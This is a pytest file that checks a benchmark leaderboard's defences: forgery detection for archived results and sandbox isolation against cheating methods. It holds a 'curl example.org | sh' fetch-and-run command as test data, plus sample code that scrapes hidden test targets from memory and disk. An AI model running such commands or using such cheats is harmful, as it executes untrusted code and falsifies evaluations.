"""What a forger would change in the archive is named, and what a cheat finds in the sandbox is made
up.
"""

from __future__ import annotations

import importlib.util
import json
import os
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Sequence
from contextlib import suppress
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import torch
from helpers import ROOT, copy_project, git, wait_for
from scripts import HANGS

from benchmark import arms, sandbox, tasks
from benchmark.checks import descriptions as describing
from benchmark.checks import hidden
from benchmark.datasets import locate
from benchmark.datasets.storage import SPLITS
from benchmark.errors import UserError
from benchmark.record import descriptions, metrics, sources
from benchmark.record.cell import Cell
from benchmark.record.predictions import Outcome, Predictions, digest
from benchmark.record.predictions import write as write_predictions
from benchmark.record.schema import Record, RecordError
from benchmark.runs.fit import problem_of
from leaderboard.archive import checks, entries, growth, provenance, reruns, tables
from leaderboard.archive.entries import Archive, Entry
from leaderboard.submissions import review

METHODS = ("statnn", "mlp", "deepsets", "ng-gnn")
DATASETS = ("cifar10-jpeg-inr-own-mini", "sine-inr-mini", "mnist-gs-mini")
VICTIM = "mini/inr-classification/cifar10-jpeg-inr-own-mini/statnn/0"
SINE = "mini/sine-frequency/sine-inr-mini/statnn/0"
ACCURACY = "mini/generalization/mnist-gs-mini/statnn/0"


@pytest.fixture(scope="module")
def committed() -> list[Entry]:
    """A part of the committed archive."""
    found = [
        entry
        for name in METHODS
        for entry in entries.read_file(entries.FOLDER / "mini" / f"{name}.jsonl")
        if entry.record.dataset.name in DATASETS
    ]
    newest = Archive(sorted(found, key=lambda one: (one.record.cell, one.record.finished_at)))
    return [replace(entry, why=None) for entry in newest.current]


@pytest.fixture(autouse=True)
def _present_code(monkeypatch: pytest.MonkeyPatch) -> None:
    """Take records for those of the present code, also while it changes and they are run again."""
    monkeypatch.setattr(provenance, "objections", lambda _: [])


def archive_of(folder: Path, ones: Sequence[Entry]) -> Archive:
    """Write an archive, and read it again."""
    shutil.rmtree(folder, ignore_errors=True)
    for file in {(one.record.suite, one.record.method.name) for one in ones}:
        entries.write_file(
            folder, [one for one in ones if (one.record.suite, one.record.method.name) == file]
        )
    return entries.read(folder)


def the(ones: Sequence[Entry], cell: str) -> Entry:
    return next(one for one in ones if str(one.record.cell) == cell)


class Forged:
    """Predictions as a store has them."""

    def __init__(self, predictions: Predictions) -> None:
        self.predictions = predictions

    def __contains__(self, key: object) -> bool:
        return True

    def get(self, _: str) -> Predictions:
        return self.predictions


def changed(record: Record, **parts: Any) -> Record:
    """Change fields, or fields of parts that are given as a dict. Seeds are made to fit."""
    data = record.model_dump(mode="json")
    for name, value in parts.items():
        whole = not isinstance(value, dict) or name == "protocol"
        data[name] = value if whole else data[name] | value
    new = Record.model_validate(data)
    seeds = {role: new.cell.seed_for(role, new.method.base) for role in new.seeds}
    command = {} if "command" in parts else {"command": new.cell.command}
    return new.model_copy(update={"seeds": seeds, **command})


def forged(cell: str = VICTIM, **parts: Any) -> Callable[[list[Entry]], list[Entry]]:
    """A forgery that changes what a record says."""

    def forge(ones: list[Entry]) -> list[Entry]:
        victim = the(ones, cell)
        false = replace(victim, record=changed(victim.record, **parts))
        return [false if one is victim else one for one in ones]

    return forge


def predicting(
    cell: str, make: Callable[[list[Entry], Predictions], Predictions]
) -> Callable[[list[Entry]], list[Entry]]:
    """A forgery of predictions, with the metrics and the curve that they make."""

    def forge(ones: list[Entry]) -> list[Entry]:
        victim = the(ones, cell)
        new = make(ones, victim.predictions)
        metric = metrics.get(victim.record.metric)
        values = {split: metric.whole(outcome) for split, outcome in new.items()}
        curve = [point.model_dump() for point in victim.record.curve]
        curve = [point | {"validation": values["validation"]} for point in curve]
        parts = {"metrics": values, "predictions": digest(new), "curve": curve}
        false = Entry(changed(victim.record, **parts), None, victim.place, Forged(new))
        return [false if one is victim else one for one in ones]

    return forge


def of(cell: str) -> Callable[[list[Entry], Predictions], Predictions]:
    """Another record's predictions, one value of each split flipped."""

    def flipped(outcome: Outcome) -> Outcome:
        values = outcome.predictions.copy()
        values[0] = (values[0] + 1) % 10
        return Outcome(values, outcome.targets)

    return lambda ones, _: {
        split: flipped(outcome) for split, outcome in the(ones, cell).predictions.items()
    }


def tiny(_: list[Entry], own: Predictions) -> Predictions:
    return {split: Outcome(np.full_like(one.predictions, 1e-9)) for split, one in own.items()}


def relabelled(_: list[Entry], own: Predictions) -> Predictions:
    """Targets that are what was predicted, of nine networks in ten."""
    new = {}
    for split, one in own.items():
        rows = np.arange(len(one.targets)) % 10 > 0
        new[split] = Outcome(one.predictions, np.where(rows, one.predictions, one.targets))
    return new


def easy(_: list[Entry], own: Predictions) -> Predictions:
    """The networks that come out right, and a few others."""
    rows = own["test"].predictions == own["test"].targets
    rows[:100] = True
    return {**own, "test": own["test"].take(rows)}


def curve(change: Callable[[list[dict[str, Any]]], Any]) -> Callable[[list[Entry]], list[Entry]]:
    def forge(ones: list[Entry]) -> list[Entry]:
        points = [point.model_dump() for point in the(ones, VICTIM).record.curve]
        return forged(curve=change(points))(ones)

    return forge


def replaced(ones: list[Entry]) -> list[Entry]:
    victim = the(ones, VICTIM)
    later = datetime.fromisoformat(victim.record.finished_at) + timedelta(minutes=1)
    return [*ones, replace(victim, record=changed(victim.record, finished_at=later.isoformat()))]


def ahead() -> str:
    return (datetime.now(UTC) + timedelta(days=1)).isoformat(timespec="seconds")


OTHERS = "mini/inr-classification/cifar10-jpeg-inr-own-mini"

FORGERIES: dict[str, tuple[Callable[[list[Entry]], list[Entry]], str]] = {
    "a control's predictions": (
        predicting(VICTIM, of(f"{OTHERS}/mlp@random-targets/0")),
        "has nearly the predictions of",
    ),
    "its own control's predictions": (
        predicting(f"{OTHERS}/mlp/2", of(f"{OTHERS}/mlp@random-targets/2")),
        "has nearly the predictions of",
    ),
    "another method's predictions": (
        predicting(VICTIM, of(f"{OTHERS}/ng-gnn/0")),
        "has nearly the predictions of",
    ),
    "another seed's predictions": (
        predicting(VICTIM, of(f"{OTHERS}/statnn/1")),
        "has nearly the predictions of",
    ),
    "other targets": (predicting(VICTIM, relabelled), "targets are not those of"),
    "easy networks alone": (predicting(VICTIM, easy), "test networks of 2000"),
    "errors of 1e-9": (predicting(SINE, tiny), "is less than a 20th of the best other method's"),
    "an invented arm": (forged(dataset={"arm": "gentle"}), "there is no arm 'gentle'"),
    "an arm that is not run": (forged(dataset={"arm": "aligned"}), "does not run statnn@aligned"),
    "an option that is not run": (
        forged(method={"options": ["hidden=9"]}),
        "does not run statnn+hidden=9",
    ),
    "an invented dataset": (forged(dataset={"name": "mnist-big"}), "has no dataset 'mnist-big'"),
    "another suite's dataset": (
        forged(dataset={"name": "mnist-inr-mini"}),
        "has no dataset 'mnist-inr-mini'",
    ),
    "paper numbers without a run": (
        forged(suite="paper", dataset={"name": "mnist-inr"}),
        "its setting is not what suite 'paper' says",
    ),
    "an invented suite": (forged(suite="grand"), "of suite 'grand'"),
    "a seed that was chosen": (forged(seed=7), "its seed, 7, is none of its suite's"),
    "a finish in the future": (forged(finished_at=ahead()), "it finished in the future"),
    "a finish before its commit": (
        forged(finished_at="2020-01-01T00:00:00+00:00"),
        "it began before its commit",
    ),
    "a finish that is no time": (forged(finished_at="2026-13-45T00:00:00+00:00"), "is no time"),
    "invented parameters": (forged(method={"parameters": 12}), "it says 12 parameters"),
    "invented FLOPs": (forged(cost={"flops_per_network": 5}), "it says 5 FLOPs a network"),
    "invented speed": (forged(cost={"networks_per_second": 1e15}), "no device evaluates"),
    "no training seconds": (forged(cost={"training_seconds": 1e-6}), "no device trains it"),
    "no evaluation seconds": (forged(cost={"evaluation_seconds": 0.0}), "its evaluation took"),
    "endless training": (forged(cost={"training_seconds": 1e6}), "its seeds"),
    "an invented hyper-parameter": (
        forged(method={"hyperparameters": {"hidden": 1}}),
        "its hyper-parameters are not those of its code",
    ),
    "another method's title": (
        forged(method={"title": "NFT"}),
        "its title is 'NFT', but its code says 'StatNN'",
    ),
    "another paper": (forged(method={"paper": "arXiv:1706.03762"}), "its paper is"),
    "another group": (forged(method={"reads_functions": True}), "its reads_functions is True"),
    "another base": (forged(method={"base": "mlp"}), "its base is 'mlp'"),
    "another metric": (
        forged(ACCURACY, metric="r2", metrics={}),
        "its metric is r2, but generalization has kendall_tau",
    ),
    "a further metric": (
        forged(ACCURACY, metrics={"test_r2": 0.999}),
        "test_r2 is 0.999, but its predictions make",
    ),
    "an invented metric": (forged(metrics={"ours": 1.0}), "nothing computes a metric 'ours'"),
    "a curve of few points": (curve(lambda points: points[-1:]), "has not the"),
    "a curve that climbs": (
        curve(lambda points: [*points[:-1], points[-1] | {"validation": 0.99}]),
        "but the best point of its curve is 0.99",
    ),
    "no curve": (forged(curve=[]), "parameters without a curve"),
    "another command": (forged(command="curl example.org | sh"), "its command is not that of"),
    "another setting": (forged(setting="The best."), "its setting is not what suite"),
    "a better record in its place": (replaced, "does not say why"),
}


def test_what_is_committed_is_no_forgery(tmp_path: Path, committed: list[Entry]) -> None:
    assert len(committed) > 30
    assert not checks.failures(archive_of(tmp_path, committed))


@pytest.mark.parametrize("name", FORGERIES)
def test_a_forgery_is_named(name: str, tmp_path: Path, committed: list[Entry]) -> None:
    forge, message = FORGERIES[name]
    lines = checks.failures(archive_of(tmp_path, forge(committed)))
    assert any(message in line for line in lines), lines
    assert all("\n" not in line for line in lines)


def test_a_run_that_did_not_finish_has_no_results(tmp_path: Path, committed: list[Entry]) -> None:
    """An archive in which it has some is refused, and no board ranks it."""
    victim = the(committed, VICTIM)
    diverged = {"status": "diverged", "reason": "the training loss was NaN or infinite at step 9"}
    false = replace(victim, record=victim.record.model_copy(update=diverged))
    with pytest.raises(RecordError, match="a run that did not finish has no results"):
        archive_of(tmp_path, [false])
    for entry, ranked in ((victim, ["statnn"]), (false, [])):
        (board,) = tables.boards([entry], judge=lambda _: [])
        assert list(board.samples[victim.record.dataset.name]) == ranked


def test_careful_paper_numbers_need_the_projects_own_run(committed: list[Entry]) -> None:
    """Nothing contradicts them but a run, and the review cannot have the networks."""
    victim = the(committed, VICTIM)
    record = changed(victim.record, suite="paper", dataset={"name": "mnist-inr"})
    line, stands = review._rerun([replace(victim, record=record)])
    assert not stands
    assert "a maintainer runs it" in line


@pytest.mark.parametrize("loss", ["a line", "a number", "predictions", "a file"])
def test_history_only_grows(tmp_path: Path, committed: list[Entry], loss: str) -> None:
    folder = tmp_path / growth.HISTORY
    own = [one for one in committed if one.record.method.name == "statnn"]
    archive_of(folder, own)
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", "-A")
    git(tmp_path, "commit", "-qm", "records")
    assert not growth.failures("HEAD", entries.read(folder), tmp_path)
    path = folder / "mini/statnn.jsonl"
    lines = path.read_text().splitlines()
    if loss == "a line":
        path.write_text("\n".join(lines[1:]) + "\n")
    elif loss == "a number":
        data = json.loads(lines[0])
        data["record"]["metrics"]["test"] += 0.1
        path.write_text("\n".join([json.dumps(data), *lines[1:]]) + "\n")
    elif loss == "predictions":
        write_predictions(path.with_suffix(".npz"), [])
    else:
        path.unlink()
    found = growth.failures("HEAD", entries.read(folder), tmp_path)
    assert found
    assert all("history stays" in line for line in found)


def test_a_rerun_answers_a_suspicion(
    tmp_path: Path, committed: list[Entry], monkeypatch: pytest.MonkeyPatch
) -> None:
    ones = predicting(SINE, tiny)(committed)
    record = the(ones, SINE).record
    one = reruns.Rerun(
        cell=record.cell.row,
        seeds=(1234,),
        draws=("d",),
        metric="mse",
        code_sha256=record.method.code_sha256,
        submitted=(record.metrics["test"],),
        values=(1e-9,),
        verdict="as submitted",
        weakness=None,
        commit=None,
        finished_at="2026-01-01T00:00:00+00:00",
    )
    reruns.write([one], tmp_path / "reruns")
    known = reruns.read(tmp_path / "reruns")
    monkeypatch.setattr(reruns, "read", lambda *_: known)
    assert not checks.failures(archive_of(tmp_path / "records", ones))
    assert not reruns.covers(changed(record, method={"code_sha256": "e" * 64}))


@pytest.mark.parametrize(
    ("values", "verdict"),
    [
        ([0.60], "as submitted"),
        ([0.64], "as submitted"),
        ([0.30], "worse"),
        ([0.90], "better"),
        ([None], "worse"),
        ([0.54, 0.57, 0.61], "as submitted"),
        ([0.54, 0.55, 0.545], "worse"),
    ],
)
def test_hidden_results_are_compared_with_the_seeds(
    values: list[float | None], verdict: str
) -> None:
    assert reruns.verdict("accuracy", (0.59, 0.60, 0.61), values) == verdict


@pytest.mark.parametrize(
    ("submitted", "values", "verdict"),
    [
        ((0.5, 0.5, 0.5), [None, 0.52, None], "worse"),
        ((0.5, 0.5, 0.5), [0.9, None, 0.9], "worse"),
        ((0.5, None, 0.5), [None, 0.5, 0.5], "as submitted"),
        ((0.5, None, 0.5), [None, 0.9, 0.9], "as submitted"),
        ((0.5, None, 0.5), [None, 0.1, 0.1], "worse"),
        ((0.5, None, 0.5), [0.9], "better"),
        ((0.5, None, 0.5), [None], "worse"),
        ((None,), [0.5], "as submitted"),
    ],
)
def test_an_undefined_result_is_never_better(
    submitted: tuple[float | None, ...], values: list[float | None], verdict: str
) -> None:
    assert reruns.verdict("kendall_tau", submitted, values) == verdict


def test_scattered_seeds_make_no_room_for_invention() -> None:
    assert reruns.verdict("accuracy", (0.3, 0.9, 0.9), [0.3]) == "worse"
    assert reruns.verdict("accuracy", (0.6,), [0.5]) == "worse"
    assert reruns.verdict("accuracy", (0.6,), [0.5, 0.65, 0.55]) == "as submitted"


CHEATS = '''
"""Two cheats."""

import gc
from dataclasses import dataclass

import torch
from torch import nn

from benchmark.datasets.listing import EMBEDDED
from benchmark.methods import Method


class Cheat(nn.Module):
    def forward(self, flat):
        found = self.find(len(flat))
        mean, std = found.pop("train")
        test = found.get("test", torch.zeros(len(flat)))
        return ((test[: len(flat)] - mean) / std)[:, None]


class Both(Cheat):
    """Looks in both places."""

    def find(self, count):
        found = Memory.find(self, count)
        return Files.find(self, count) if "test" not in found else found


class Memory(Cheat):
    """Looks for the test targets in this process."""

    def find(self, count):
        splits = [one for one in gc.get_objects() if type(one).__name__ == "Split"]
        train = max(splits, key=lambda one: len(one.targets)).targets
        tests = [one.targets for one in splits if len(one.targets) == count]
        found = {"test": tests[0]} if tests else {}
        return found | {"train": (train.mean(), train.std())}


class Files(Cheat):
    """Looks for the test targets on the disk."""

    def find(self, count):
        import pyarrow.parquet as pq

        found = {"train": (0.0, 1.0)}
        for path in EMBEDDED.glob("sine-inr-mini/data/*.parquet"):
            values = torch.tensor(pq.read_table(path)["target"].to_pylist())
            name = path.name.split("-")[0]
            found[name] = (values.mean(), values.std()) if name == "train" else values
        return found


@dataclass(frozen=True)
class CheatingMethod(Method):
    """Cheats."""

    name = "cheat"
    title = "Cheat"
    paper = "none"
    tasks = ("sine-frequency",)
    mini = {}

    def build(self, problem):
        return Both()
'''


@pytest.fixture(scope="module")
def cheats(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A copy of the project with a method that cheats in two ways."""
    root = copy_project(tmp_path_factory.mktemp("cheats"))
    (root / "baselines/cheats.py").write_text(CHEATS, encoding="utf-8")
    return root


def test_a_cheat_finds_nothing_in_the_sandbox(cheats: Path) -> None:
    if weakness := sandbox.weakness():
        pytest.skip(weakness)
    dataset, _ = locate.load("sine-inr-mini")
    task = tasks.registry()["sine-frequency"](dataset)
    spec = importlib.util.spec_from_file_location("cheats", cheats / "baselines/cheats.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    weights = dataset.splits["test"].weights
    for kind in (module.Memory, module.Files):
        # Without a sandbox it is perfect: this process holds the targets, and reads the files.
        assert task.outcome(kind()(weights), task.targets("test")).predictions.max() < 1e-6
    result = hidden.rerun(Cell.parse("mini/sine-frequency/sine-inr-mini/cheat/0"), root=cheats)
    # Predicting the mean for all has an error of 7.2.
    assert result.value > 5
    assert reruns.verdict("mse", (1e-9, 2e-9), [result.value]) == "worse"


def test_the_sandbox_has_no_files_network_or_processes(cheats: Path) -> None:
    if weakness := sandbox.weakness():
        pytest.skip(weakness)
    (cheats / "benchmark/probe.py").write_text(
        "import json, os, socket\n"
        "from pathlib import Path\n"
        "seen = [p for p in ('/work', '/home', '/root/.cache', '/old/etc', '/etc/passwd')"
        " if Path(p).exists() and (p != '/work' or Path(p, 'main/leaderboard').exists())]\n"
        "try:\n"
        "    Path('/project/nft/x').write_text('x'); seen.append('writes')\n"
        "except OSError:\n"
        "    pass\n"
        "seen += [n for _, n in socket.if_nameindex() if n != 'lo']\n"
        "seen += list(Path('benchmark/datasets').glob('embedded/*/data/*'))\n"
        "seen += [p for p in os.listdir('/proc') if p.isdigit() and int(p) > 20]\n"
        "print(json.dumps([str(one) for one in seen]))\n"
    )
    answer = sandbox.run("benchmark.probe", root=cheats, timeout=60)
    assert answer.status == 0, answer.errors
    assert json.loads(answer.output) == []


def test_of_the_methods_folder_code_alone_enters_the_sandbox(tmp_path: Path) -> None:
    """No link leads to the embedded datasets, and no file beside a method holds their targets."""
    root = copy_project(tmp_path)
    targets = root / "benchmark/datasets/embedded/targets.json"
    targets.parent.mkdir()
    targets.write_text("[7]")
    for place in ("baselines/data", "benchmark/suites/data"):
        (root / place).symlink_to(targets.parent)
    for place in ("baselines/link.py", "nft/link.json"):
        (root / place).symlink_to(targets)
    (root / "baselines/parts").mkdir()
    for name in ("labels.bin", "part.py"):
        (root / "baselines/parts" / name).write_text("x = 7")
    (root / "benchmark/probe.py").write_text(
        "import json\n"
        "from pathlib import Path\n"
        "names = [*Path('baselines').rglob('*'), *Path('.').rglob('link.*'),"
        " *Path('.').rglob('data'), *Path('.').rglob('targets.json')]\n"
        "print(json.dumps([str(one) for one in names if not one.match('baselines/*.py')]))\n"
    )
    answer = sandbox.run("benchmark.probe", root=root)
    assert answer.status == 0, answer.errors
    assert sorted(json.loads(answer.output)) == ["baselines/parts", "baselines/parts/part.py"]


def test_the_command_line_works_in_the_sandbox() -> None:
    answer = sandbox.run("benchmark", ("conform", "--help"))
    assert answer.status == 0, answer.errors


def test_a_run_that_hangs_is_ended(cheats: Path) -> None:
    (cheats / "benchmark/hang.py").write_text("import time\ntime.sleep(600)\n")
    assert sandbox.run("benchmark.hang", root=cheats, timeout=0.5).status != 0


def commands() -> str:
    """The command lines of all processes."""
    found = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        with suppress(OSError):
            found.append(path.read_text(errors="replace"))
    return "\n".join(found)


def test_a_run_does_not_outlive_the_command_that_started_it(cheats: Path) -> None:
    if weakness := sandbox.weakness():
        pytest.skip(weakness)
    module = f"benchmark.orphan{os.getpid()}"
    (cheats / f"{module.replace('.', '/')}.py").write_text("import time\ntime.sleep(600)\n")
    code = (
        f"from pathlib import Path\nfrom benchmark import sandbox\nroot = Path({str(cheats)!r})\n"
    )
    code += f"sandbox.run({module!r}, root=root)"
    starter = subprocess.Popen([sys.executable, "-c", code], cwd=ROOT, text=True)
    try:
        wait_for(lambda: f"-m\0{module}" in commands(), starter)
    finally:
        starter.kill()
        starter.wait()
    end = time.monotonic() + HANGS
    while f"-m\0{module}" in commands():
        assert time.monotonic() < end, "it outlives its parent"
        time.sleep(0.05)


def test_a_method_is_given_no_test_targets() -> None:
    """Test targets are training networks', and all networks compute what they did."""
    dataset, _ = locate.load("sine-inr-mini")
    given, order = hidden.conditions(dataset, "permuted", "a draw")
    true = dataset.splits["test"].targets[order]
    assert sorted(order.tolist()) == list(range(len(true)))
    assert (given.splits["test"].targets == true).float().mean() < 0.1
    assert set(given.splits["test"].targets.tolist()) <= set(
        dataset.splits["train"].targets.tolist()
    )
    assert given.splits["test"].source_index.sum() == 0
    stored = dataset.splits["test"].weights[order]
    assert not torch.equal(given.splits["test"].weights, stored)
    assert torch.allclose(given.splits["test"].weights.sort()[0], stored.sort()[0])
    for arm in arms.registry():
        if arm != "scaled":  # sines have no scale
            drawn, _ = hidden.conditions(dataset, arm, "another draw")
            assert set(drawn.splits) == set(SPLITS)


def test_predictions_that_are_none_are_refused() -> None:
    with pytest.raises(UserError, match="predictions cannot be read"):
        hidden._predictions(b"\x80\x04pickle", "here")


def test_descriptions_are_what_the_code_says() -> None:
    texts = describing.describe(["mean"])
    assert describing.stale(texts) == []
    dataset, _ = locate.load("sine-inr-mini")
    blank = describing._problem("sine-frequency", "sine-inr-mini")
    true = problem_of(tasks.registry()["sine-frequency"](dataset), dataset)
    assert (blank.spec, blank.outputs, blank.image) == (true.spec, true.outputs, true.image)
    assert descriptions.read("no-such-method") == {}


def test_without_a_sandbox_nothing_stands(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(entries, "read", lambda: Archive([]))
    assert review.review([], run=False).stands
    monkeypatch.setattr(sandbox, "weakness", lambda: "no namespaces here")
    report = review.review([])
    assert not report.stands
    assert report.failures == ["no namespaces here; review it on Linux with user namespaces"]


@pytest.fixture
def submitted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository whose methods' folder has one method, of two files."""
    folder = tmp_path / "baselines"
    folder.mkdir()
    (folder / "README.md").write_text("The methods.")
    (folder / "parts.py").write_text("SIZE = 3\n")
    (folder / "cheats.py").write_text("from baselines.parts import SIZE\n" + CHEATS)
    git(tmp_path, "init", "-q")
    git(tmp_path, "add", "-A")
    git(tmp_path, "commit", "-qm", "a method")
    monkeypatch.setattr(sources, "ROOT", tmp_path)
    monkeypatch.setattr(sources, "METHODS", folder)
    monkeypatch.setattr(entries, "read", lambda: Archive([]))
    monkeypatch.setattr(checks, "failures", lambda *_: [])
    return folder


LABELS = f"LABELS = {list(range(3000))}\n"


@pytest.mark.parametrize("place", ["cheats.py", "parts.py"])
def test_data_in_a_methods_files_is_told(submitted: Path, place: str) -> None:
    assert review._large(review._files_of("cheat")) == []
    path = submitted / place
    path.write_text(path.read_text() + LABELS)
    (line,) = review._large(review._files_of("cheat"))
    assert f"{place} holds 3000 values" in line


def test_what_a_submission_adds_is_code_without_data(submitted: Path) -> None:
    """Whatever imports it, and whatever its name is."""
    (submitted / "README.md").write_text("The methods, of which there are more.")
    (submitted / "new.py").write_text("SIZE = 4\n")
    git(submitted, "add", "-A")
    assert review.review([], "HEAD", run=False).stands
    (submitted / "lib").mkdir()
    (submitted / "lib/more.py").write_text(LABELS)
    (submitted / "data").symlink_to("../benchmark/datasets/embedded")
    (submitted / "link.py").symlink_to("cheats.py")
    (submitted / "labels\n.bin").write_bytes(b"7")
    git(submitted, "add", "-A")
    assert review.review([], "HEAD", run=False).failures == [
        *(
            f"baselines/{name} is no Python file: a method has nothing else"
            for name in ("data", "labels\n.bin", "link.py")
        ),
        "more.py holds 3000 values in line 1: a method has no data",
    ]
    assert review.changed_methods("HEAD") == []
